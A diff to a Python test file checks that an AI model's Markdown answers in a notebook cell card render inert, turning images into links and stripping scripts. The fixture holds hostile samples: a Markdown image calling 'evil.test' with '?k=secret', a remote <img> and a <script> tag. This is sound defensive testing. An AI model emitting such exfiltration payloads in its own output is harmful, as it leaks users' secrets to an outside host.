@@ -435,10 +435,14 @@ def test_the_panel_never_renders_remote_resources_or_scripts_from_model_output(l
     assert "<img" not in restored and "<script" not in restored
 
 
-async def test_an_answer_shown_as_markdown_loads_nothing_remote(llm, make_assistant):
-    """A front end renders ``text/markdown`` itself (raw HTML on, as JupyterLab's renderer): an
-    answer's images and HTML must arrive inert there too, with its code blocks untouched."""
-    from markdown_it import MarkdownIt
+async def test_an_answer_in_the_cell_card_loads_nothing_remote(llm, make_assistant):
+    """The ``%%assist`` card renders an answer's Markdown itself (the one path, as the panel does);
+    no front end gets ``text/markdown`` to render with raw HTML on.  Its images and HTML arrive
+    inert, its code blocks as written."""
+    import html as html_module
+    import re
+
+    from _support.display import shown
 
     answer = (
         "See ![chart](http://evil.test/?k=secret) and <img src='http://evil.test/x'> <script>alert(1)</script>\n\n"
@@ -446,10 +450,12 @@ async def test_an_answer_shown_as_markdown_loads_nothing_remote(llm, make_assist
     )
     llm.queue(intent("question"), answer)
     result = await make_assistant("openai").arun("how do I compare values?")
-    rendered = MarkdownIt("commonmark", {"html": True}).render(result._repr_markdown_())
+    bundle = shown(result)
+    assert "text/markdown" not in bundle
+    rendered = bundle["text/html"]
     assert "<img" not in rendered and "<script" not in rendered
-    assert '<a href="http://evil.test/?k=secret">chart</a>' in rendered  # a link: nothing loads until clicked
-    assert "if a &lt; b:" in rendered  # the code block is shown exactly as written
+    assert '<a href="http://evil.test/?k=secret" rel="noopener noreferrer">[image: chart]</a>' in rendered
+    assert "if a < b:" in html_module.unescape(re.sub(r"<[^>]+>", "", rendered))  # the code, as written
 
 
 def test_raw_html_links_images_and_styles_are_sanitised():
